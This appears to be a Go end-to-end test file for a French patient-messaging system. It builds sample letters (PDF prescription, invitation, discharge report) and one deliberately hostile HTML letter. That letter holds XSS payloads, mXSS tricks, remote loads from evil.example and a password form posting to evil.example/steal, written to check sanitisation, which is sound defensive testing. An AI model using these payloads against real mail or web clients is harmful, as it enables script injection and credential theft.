package e2e_test

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"mime"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"text/template"
	"time"

	"github.com/vaguemestre/vaguemestre/agenda"
	"github.com/vaguemestre/vaguemestre/cda"
	"github.com/vaguemestre/vaguemestre/demo"
	"github.com/vaguemestre/vaguemestre/identity"
	"github.com/vaguemestre/vaguemestre/wiretest"
	"github.com/vaguemestre/vaguemestre/xdm"
)

// What the browser's journeys read: the letters that a patient has before somebody
// looks at them. The scripts in e2e/browser know their subjects.

// browserLetters sends a patient everything that the pages can show: a PDF, a letter
// in HTML that would like to run something, one that ends the exchange, an invitation,
// a document about somebody else, one that is a PDF inside, and last, so that it is the
// first that they see, the discharge report.
func (w *world) browserLetters(p demo.Person) {
	w.t.Helper()
	hospital, city := w.operator("hospital"), w.operator("city")
	doctor, lungs, office, nurse := hospital.Boxes[0], hospital.Boxes[1], hospital.Boxes[2], city.Boxes[1]
	other := reportAbout(p, "2.25.77"+p.INS)
	other.Birth = "19000101"
	image := reportAbout(p, "2.25.78"+p.INS)
	image.Title = "Compte rendu de radiographie"
	w.bring("hospital", office, p, "Ordonnance", "Bonjour,\n\nVotre ordonnance est jointe. Gardez-la avec vous.\n\nLe secrétariat",
		wiretest.Attachment{Type: "application/pdf", Name: "ordonnance.pdf", Data: pdfPage("Ordonnance du 20 novembre 2026", "Bisoprolol 2,5 mg : 1 le matin")})
	w.bringOctets("hospital", lungs, p, hostileLetter(lungs, p))
	w.bring("city", nurse, p, "[FIN]", "Bonjour,\n\nLes soins sont finis. Je ne lirai plus de réponse ici.\n\nHugo Petit, infirmier")
	w.bringOctets("hospital", doctor, p, invitation(w.t, doctor, p))
	w.bring("hospital", office, p, "Document d'un autre", "Bonjour.", bare(other.cda(w.t)))
	w.bring("hospital", lungs, p, "Radiographie", "Bonjour,\n\nVoici le compte rendu de votre radiographie.", bare(image.aroundPDF(w.t)))
	w.bring("hospital", doctor, p, "XDM/1.0/DDM+Lettre de sortie "+p.Family, `Bonjour,

Vous trouverez ci-joint la lettre qui résume votre séjour.
Prenez votre traitement comme convenu.

Dr Claire Martin, cardiologie`, discharge(w.t, p))
}

// spoken is a name as a person writes it before their address.
func spoken(p demo.Person) string {
	return mime.QEncoding.Encode("utf-8", strings.ReplaceAll(p.Name, "_", " ")) + " <" + p.Address + ">"
}

// bring brings a letter to the patients' MX as another operator.
func (w *world) bring(operator string, from, to demo.Person, subject, text string, files ...wiretest.Attachment) {
	w.t.Helper()
	w.bringOctets(operator, from, to, wiretest.Mail{
		From: spoken(from), To: to.Address, Subject: mime.QEncoding.Encode("utf-8", subject), Text: text, Attachments: files,
	}.Bytes())
}

func (w *world) bringOctets(operator string, from, to demo.Person, letter []byte) {
	w.t.Helper()
	c := w.mx("patients", operator)
	defer c.Close()
	if reply, err := c.Send(from.Address, []string{to.Address}, letter); err != nil || reply.Code != 250 {
		w.t.Fatalf("a letter of %s: %v %s", from.Address, err, reply)
	}
}

// discharge is the demo's own discharge report about a patient, in a package.
func discharge(t *testing.T, p demo.Person) wiretest.Attachment {
	t.Helper()
	form, err := template.ParseFiles(filepath.Join("..", "demo", "discharge.xml"))
	if err != nil {
		t.Fatal(err)
	}
	id, at := "2.25.76"+p.INS, time.Now()
	const dtm = "20060102150405-0700"
	var b bytes.Buffer
	if err := form.Execute(&b, map[string]string{
		"ID": id, "Time": at.Format(dtm), "Admitted": at.AddDate(0, 0, -4).Format(dtm), "INSOID": p.INSOID, "INS": p.INS,
		"Family": p.Family, "Given": strings.ToUpper(p.Given), "Sex": p.Sex, "Birth": strings.ReplaceAll(p.BirthDate, "-", ""),
	}); err != nil {
		t.Fatal(err)
	}
	return zipped(t, xdm.Patient{OID: p.INSOID, Matricule: p.INS}, xdm.Content{Body: &b, Entry: xdm.Entry{
		UniqueID: id, MIME: "text/xml", Title: "Lettre de liaison à la sortie", Language: "fr-FR", Size: -1,
		Type:    xdm.Code{Code: "11490-0", System: "2.16.840.1.113883.6.1", Display: "Lettre de liaison à la sortie"},
		Created: xdm.Time{At: at},
	}})
}

// aroundPDF is the report as a CDA R2 level 1 document: a PDF is its whole body.
func (r report) aroundPDF(t *testing.T) []byte {
	t.Helper()
	pdf := base64.StdEncoding.EncodeToString(pdfPage(r.Title, "Poumons clairs. Pas de fracture."))
	head, _, found := bytes.Cut(r.cda(t), []byte("<structuredBody>"))
	if !found {
		t.Fatal("the report has no structured body")
	}
	return fmt.Appendf(head, `<nonXMLBody><text mediaType="application/pdf" representation="B64">%s</text></nonXMLBody></component></ClinicalDocument>`, pdf)
}

// pdfPage is a PDF of one page with a title and a line (ISO 32000-1 7.5).
func pdfPage(title, line string) []byte {
	show := fmt.Sprintf("BT /F 20 Tf 60 760 Td (%s) Tj 0 -40 Td /F 13 Tf (%s) Tj ET", title, line)
	objects := []string{
		"<</Type/Catalog/Pages 2 0 R/Lang(fr)>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
		fmt.Sprintf("<</Length %d>>\nstream\n%s\nendstream", len(show), show),
		"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
	}
	var b, table strings.Builder
	b.WriteString("%PDF-1.4\n")
	for i, o := range objects {
		fmt.Fprintf(&table, "%010d 00000 n \n", b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	at := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, table.String(), len(objects)+1, at)
	return []byte(b.String())
}

// invitation is a doctor's invitation in a month's time.
func invitation(t *testing.T, from, to demo.Person) []byte {
	t.Helper()
	organizer, err := identity.ParseAddress(from.Address)
	if err != nil {
		t.Fatal(err)
	}
	attendee, err := identity.ParseAddress(to.Address)
	if err != nil {
		t.Fatal(err)
	}
	now := time.Now()
	day := now.AddDate(0, 1, 0)
	start := time.Date(day.Year(), day.Month(), day.Day(), 9, 30, 0, 0, time.UTC)
	name := strings.ReplaceAll(from.Name, "_", " ")
	paris, err := time.LoadLocation("Europe/Paris")
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if _, err := (agenda.Letter{
		From: organizer, FromName: name, To: attendee, ToName: to.Name, Method: agenda.Request, Date: now, Zone: paris,
		Event: agenda.Event{
			UID: "suivi." + to.INS + "@e2e.example", Start: start, End: start.Add(30 * time.Minute), Stamp: now,
			Summary: "Consultation de suivi, cardiologie", Location: "CHU Rivière, consultations, rez-de-chaussée",
			Description: "Venez avec votre ordonnance et vos derniers résultats.",
			Organizer:   agenda.Party{Address: organizer, Raw: from.Address, Name: name},
			Attendees:   []agenda.Party{{Address: attendee, Raw: to.Address, Name: to.Name}},
		},
	}).WriteTo(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// hostileLetter is a letter in HTML with a table worth reading, and everything that a
// page must not let happen: each attempt calls MARK, goes to another origin, or dresses
// up as the page around it.
func hostileLetter(from, to demo.Person) []byte {
	return []byte(strings.ReplaceAll(fmt.Sprintf(`From: %s
To: <%s>
Subject: =?utf-8?q?R=C3=A9sultats_avec_mise_en_page?=
Date: %s
Message-ID: <html.%s@e2e.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 8bit

<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/gone">
<link rel="stylesheet" href="https://evil.example/a.css"><script>MARK("script")</script>
<style>@import url(https://evil.example/b.css); body{background:url(https://evil.example/c.png)}</style></head>
<body onload="MARK('onload')" style="background:url(https://evil.example/d.png)">
<h1>Vos résultats</h1><p>Bonjour,</p><table><caption>Sang</caption><tr><th scope="col">Mesure</th><th scope="col">Valeur</th></tr>
<tr><td>Potassium</td><td>4,2 mmol/l</td></tr><tr><td>Créatinine</td><td>78 µmol/l</td></tr></table>
<img src="https://evil.example/pixel.gif" onerror="MARK('img')" alt="Notre logo"><img src=x onerror=MARK(1)>
<svg onload="MARK('svg')"><script>MARK('svg script')</script><use href="https://evil.example/x.svg#a"/></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=MARK('mxss')></style></mglyph></form></mtext></math>
<a href="javascript:MARK('href')">Vos images</a> <a href="data:text/html,<script>MARK('data')</script>">suite</a>
<iframe src="https://evil.example/frame" srcdoc="<script>parent.MARK('srcdoc')</script>"></iframe><object data="https://evil.example/o"></object>
<form action="https://evil.example/steal" method="post"><input name="web_password" autofocus onfocus="MARK('focus')"><button>Continuer</button></form>
<video src="https://evil.example/v" autoplay onerror="MARK('video')"></video><details open ontoggle="MARK('toggle')">Détail</details>
<p>Voir <a href="https://chu-riviere.mss.example/conseils">nos conseils</a>.</p></body></html>
`, spoken(from), to.Address, time.Now().Format(time.RFC1123Z), to.INS), "\n", "\r\n"))
}

// gallery is the patient whom most samples of the corpus name, and these samples as
// they are.
func gallery(t *testing.T) (who demo.Person, samples [][]byte) {
	t.Helper()
	dir := corpus(t, "cda-fr")
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	of := make(map[demo.Person][][]byte)
	for _, e := range entries {
		octets, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		d, err := cda.Read(bytes.NewReader(octets), int64(len(octets)), cda.Limits{})
		if err != nil {
			t.Fatalf("%s: %v", e.Name(), err)
		}
		p := named(d.Patient)
		if of[p] = append(of[p], octets); p.INS != "" && len(of[p]) > len(of[who]) {
			who = p
		}
	}
	return who, of[who]
}
